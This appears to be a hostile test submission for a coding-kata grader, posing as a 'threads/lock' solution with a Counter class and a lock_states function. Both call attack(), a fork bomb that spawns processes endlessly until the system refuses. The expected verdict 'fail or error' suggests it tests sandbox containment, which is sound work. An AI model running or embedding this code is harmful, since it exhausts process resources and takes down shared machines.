"""Forks for ever.

Kata: threads/lock
Verdict: fail or error
"""

import os
import time


def attack():
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            raise RuntimeError("no more processes") from None


class Counter:
    def __init__(self):
        self.value = 0
        attack()

    def increment(self):
        self.value += 1

    def decrement(self):
        self.value -= 1


def lock_states(lock):
    attack()
    return False, False, False
